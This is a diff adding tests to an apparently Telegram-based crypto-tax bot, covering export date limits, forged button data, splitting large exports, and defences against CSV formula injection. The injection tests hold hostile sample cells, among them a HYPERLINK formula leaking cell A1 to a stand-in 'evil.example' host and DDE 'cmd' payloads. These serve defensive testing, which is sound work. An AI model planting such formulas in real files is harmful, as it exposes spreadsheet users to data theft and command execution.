@@ -11,26 +11,35 @@ growing, and other users are answered meanwhile.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import itertools
 import logging
 import re
 import time
+from collections import Counter
 from collections.abc import AsyncIterator, Callable
 from dataclasses import dataclass
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
 import pytest_asyncio
 from hypothesis import HealthCheck, Phase, given, settings
+from hypothesis import strategies as st
 from sqlalchemy import select
+from telegram import InlineKeyboardButton, InlineKeyboardMarkup
 from telegram.ext import Application
 
 from bot.context import SERVICES_KEY, Services
-from connectors.files import StoredRecords, parse
+from connectors.files import TALLYBOT_COLUMNS, StoredRecords, parse
 from connectors.files.isolated import WORKER_GRACE_SECONDS
 from connectors.files.limits import MAX_READ_SECONDS
 from connectors.files.matching import plan_import
+from connectors.files.tallybot import formula_safe, formula_unsafe
+from connectors.files.writers import cryptact_rows, koinly_rows, tallybot_rows
+from connectors.records import NormalizedRecord, RecordKind
 from db.models import Transaction
 from db.repositories import TransactionRepository
 from sandbox.botapi import BotApiEmulator
@@ -258,4 +267,243 @@ async def test_rows_stored_by_earlier_versions_are_recognised_and_moved(
     assert "New: 0" in answer and "Moved to the times read now: 2" in answer
     assert await bot.services.integrations.transaction_count(walker.user.user_id, integration.id) == 2
     assert await stored_times(bot, integration.id) == AS_SHANGHAI
+    assert errors(caplog) == []
+
+
+# --- finding 9: exports ---------------------------------------------------------------------------------------------
+
+
+async def press_data(bot: Bot, walker: Walker, data: str) -> str:
+    """A button carrying `data` (forged) in the user's chat, pressed; the callback answer's text."""
+    markup = InlineKeyboardMarkup([[InlineKeyboardButton("press", callback_data=data)]])
+    sent = await bot.app.bot.send_message(walker.chat_id, "forged by the test", reply_markup=markup)
+    query = await bot.telegram.press_button(walker.user, bot.telegram.message(walker.chat_id, sent.message_id), "press")
+    await bot.telegram.wait_until(lambda: not bot.telegram.pending_updates, timeout=30)
+    await asyncio.wait_for(bot.app.update_queue.join(), timeout=60)
+    answer = bot.telegram.callback_answer(query)
+    return answer.text or "" if answer is not None else "<not answered>"
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    ["9999-01-01 9999-12-31", "0001-01-01 0001-12-31", "9999-12-31", "0001-01-01 2024-01-01", "2008-12-31"],
+)
+async def test_export_dates_beyond_any_history_get_a_clear_answer(
+    bot: Bot, arguments: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    walker = bot.user()
+    await bot.services.integrations.add_file_only(walker.user.user_id, exchange_id="binance", account_name="Mine")
+    sent = await walker.send(f"/export {arguments}")
+    answer = await walker.reply_to(sent)
+
+    assert "outside the dates Tallybot can export: from 2009-01-03" in (answer.text or "")
+    assert answer.reply_markup is None  # no format menu for a period that cannot be exported
+    assert errors(caplog) == []
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        "ex:tallybot:all:99990101-99991231",
+        "ex:koinly::00010101-00011231",
+        "ex:cryptact:99999999999999999999999999:",
+        "ex:tallybot:\u00b2:",  # a Unicode digit: str.isdigit() says yes, int() says no
+        "k:open:99999999999999999999999999999999:x",
+        "k:open:\u00b2\u00b3:x",
+    ],
+)
+async def test_forged_export_and_key_buttons_with_huge_values_are_stale_quietly(
+    bot: Bot, data: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    walker = bot.user()
+    await bot.services.integrations.add_file_only(walker.user.user_id, exchange_id="binance", account_name="Mine")
+
+    answer = await press_data(bot, walker, data)
+
+    assert "expired" in answer
+    assert not [m for m in bot.telegram.messages(walker.chat_id) if m.document is not None]
+    assert errors(caplog) == []
+
+
+BIG_RAW = "x" * 4_000  # what an exchange's raw payload can weigh, with its notes: ~4 KB a record
+BIG_ROWS = 14_000  # ~57 MB of Tallybot CSV: over Telegram's 50 MB
+
+
+async def test_an_export_over_telegrams_limit_comes_in_parts_said_first(
+    bot: Bot, caplog: pytest.LogCaptureFixture, measured: Callable[..., None]
+) -> None:
+    walker = bot.user()
+    account = await bot.services.integrations.add_file_only(
+        walker.user.user_id, exchange_id="binance", account_name="Big"
+    )
+    start = datetime(2024, 1, 1, tzinfo=UTC)
+    rows = [
+        NormalizedRecord(
+            kind=RecordKind.DEPOSIT,
+            occurred_at=start + timedelta(minutes=n),
+            natural_key=f"deposit:big-{n}",
+            asset="USDT",
+            amount=Decimal(n + 1),
+            raw={"file_format": "tallybot", "note": BIG_RAW},
+        ).to_row(account.id, "file")
+        for n in range(BIG_ROWS)
+    ]
+    async with bot.services.database.writer() as session:
+        for first in range(0, len(rows), 1_000):
+            await TransactionRepository(session).insert_missing(rows[first : first + 1_000])
+    del rows
+
+    sent = await walker.send("/export")
+    await walker.reply_to(sent, "Which format")
+    await walker.press_for("Tallybot CSV", "Export which account")
+    notice = await walker.press_for("All accounts", "📦", timeout=120)
+    await bot.telegram.wait_until(
+        lambda: len([m for m in bot.telegram.messages(walker.chat_id) if m.document is not None]) >= 2, timeout=120
+    )
+    documents = [m.document for m in bot.telegram.messages(walker.chat_id) if m.document is not None]
+
+    assert "more than Telegram lets a bot send in one file (50 MB)" in (notice.text or "")
+    assert "/export 2024-01-01" in (notice.text or "")  # a shorter period to ask for instead
+    assert len(documents) == 2 and all(len(d.content) <= 50 * 1024 * 1024 for d in documents)
+    exported = [list(csv.reader(io.StringIO(d.content.decode()))) for d in documents]
+    assert all(part[0] == list(TALLYBOT_COLUMNS) for part in exported)  # each part is a whole CSV
+    keys = [row[TALLYBOT_COLUMNS.index("natural_key")] for part in exported for row in part[1:]]
+    assert keys == [f"deposit:big-{n}" for n in range(BIG_ROWS)]  # every record once, in order
+    assert "Sorry" not in walker.all_bot_texts()
+    assert errors(caplog) == []
+    measured(records=BIG_ROWS, parts=len(documents), megabytes=[round(len(d.content) / 2**20, 1) for d in documents])
+
+
+# --- finding 9: formula cells (OWASP, "CSV Injection") -----------------------------------------------------------
+
+INJECTION_EXAMPLES = 300
+LONG_INJECTION_EXAMPLES = 3_000
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
+hostile_text = st.builds(
+    lambda start, rest: start + rest,
+    st.sampled_from([*TRIGGERS, ""]),
+    st.sampled_from(['HYPERLINK("https://evil.example/?d="&A1,"Click")', "SUM(1+1)*cmd|' /C calc'!A0", "1.5", ""])
+    | st.text(max_size=20),
+)
+amounts = st.decimals(min_value=Decimal("-1e12"), max_value=Decimal("1e12"), allow_nan=False, places=8)
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A stored transaction whose every text field holds what a hostile file or account name can put there."""
+
+    kind: str
+    occurred_at: datetime
+    natural_key: str
+    exchange_tx_id: str | None
+    market: str | None
+    side: str | None
+    asset: str
+    amount: Decimal
+    quote_asset: str | None
+    quote_amount: Decimal | None
+    price: Decimal | None
+    fee_asset: str | None
+    fee_amount: Decimal | None
+    raw: dict[str, str] | None
+
+
+hostile_records = st.builds(
+    Hostile,
+    kind=st.sampled_from([k.value for k in RecordKind]),
+    occurred_at=st.datetimes(min_value=datetime(2009, 1, 3), max_value=datetime(2030, 1, 1), timezones=st.just(UTC)),
+    natural_key=hostile_text,
+    exchange_tx_id=hostile_text,
+    market=hostile_text,
+    side=st.sampled_from(["buy", "sell"]) | hostile_text,
+    asset=hostile_text,
+    amount=amounts,
+    quote_asset=hostile_text,
+    quote_amount=amounts,
+    price=amounts,
+    fee_asset=hostile_text,
+    fee_amount=amounts,
+    raw=st.dictionaries(st.sampled_from(["txId", "note"]), hostile_text, max_size=2),
+)
+
+
+def formula_cells(cells: list[str]) -> list[str]:
+    """Cells a spreadsheet would run as formulas: starting with a trigger and not a plain number."""
+    return [cell for cell in cells if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]
+
+
+async def test_no_export_format_writes_a_formula_cell_from_generated_hostile_values(
+    long_run: bool, measured: Callable[..., None]
+) -> None:
+    checked = Counter[str]()
+
+    @settings(
+        max_examples=LONG_INJECTION_EXAMPLES if long_run else INJECTION_EXAMPLES,
+        database=None,
+        deadline=None,
+        suppress_health_check=list(HealthCheck),
+    )
+    @given(hostile_records, hostile_text, hostile_text)
+    def check(record: Hostile, exchange: str, account: str) -> None:
+        written = {
+            "tallybot": tallybot_rows(record, exchange, account, "file"),
+            "koinly": koinly_rows(record, exchange, account),
+            "cryptact": cryptact_rows(record, exchange, account),
+        }
+        for name, result in written.items():
+            for row in result.rows:
+                assert formula_cells(row) == [], (name, row)
+                checked[name] += 1
+        [tallybot_row] = written["tallybot"].rows
+        # Text is kept, behind a quote where needed; amounts stay numbers (a negative one is not a formula).
+        assert tallybot_row[TALLYBOT_COLUMNS.index("asset")] == formula_safe(record.asset)
+        assert tallybot_row[TALLYBOT_COLUMNS.index("account")] == formula_safe(account)
+        assert tallybot_row[TALLYBOT_COLUMNS.index("amount")] == format(record.amount, "f")
+        assert formula_unsafe(tallybot_row[TALLYBOT_COLUMNS.index("market")]) == record.market
+
+    check()
+    measured(records=sum(checked.values()) and max(checked.values()), rows_by_format=dict(checked))
+
+
+async def test_hostile_values_imported_then_exported_are_text_in_every_format(
+    bot: Bot, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Through the bot: Tallybot's template filled with formulas, uploaded, exported in every format."""
+    walker = bot.user()
+    await bot.services.integrations.add_file_only(walker.user.user_id, exchange_id="binance", account_name="-Main+")
+    columns = list(TALLYBOT_COLUMNS)
+    row = dict.fromkeys(columns, "")
+    row.update(
+        time_utc="2024-03-01T12:30:05Z",
+        kind="trade",
+        side="buy",
+        asset='=HYPERLINK("//ev.il/?"&A1)',  # within the 32 characters of an asset
+        amount="-1.5",
+        quote_asset="+SUM(1+1)",
+        quote_amount="93.5",
+        fee_asset="@SUM(A1:A9)",
+        fee_amount="0.1",
+        market="\t=cmd|' /C calc'!A0",
+        exchange_tx_id="-2+3",
+    )
+    upload = samples.csv_bytes([list[object](columns), [row[c] for c in columns]])
+    sent = await bot.telegram.send_document(walker.user, filename="mine.csv", content=upload)
+    await walker.reply_to(sent, "Which account")
+    imported = await walker.press_for("-Main+", "imported into")
+    assert "New: 1" in (imported.text or ""), imported.text
+
+    for label in ("Tallybot CSV", "Koinly", "Cryptact"):
+        sent = await walker.send("/export")
+        await walker.reply_to(sent, "Which format")
+        await walker.press_for(label, "Export which account")
+        before = walker.newest_id()
+        await walker.press("All accounts")
+        document = await walker.emulator.wait_for_bot_message(
+            walker.chat_id, after_message_id=before, predicate=lambda m: m.document is not None
+        )
+        assert document.document is not None
+        cells = [cell for line in csv.reader(io.StringIO(document.document.content.decode())) for cell in line]
+        assert formula_cells(cells) == [], (label, formula_cells(cells))
+        assert any(cell.startswith("'=HYPERLINK") or "=HYPERLINK" in cell for cell in cells), label
     assert errors(caplog) == []
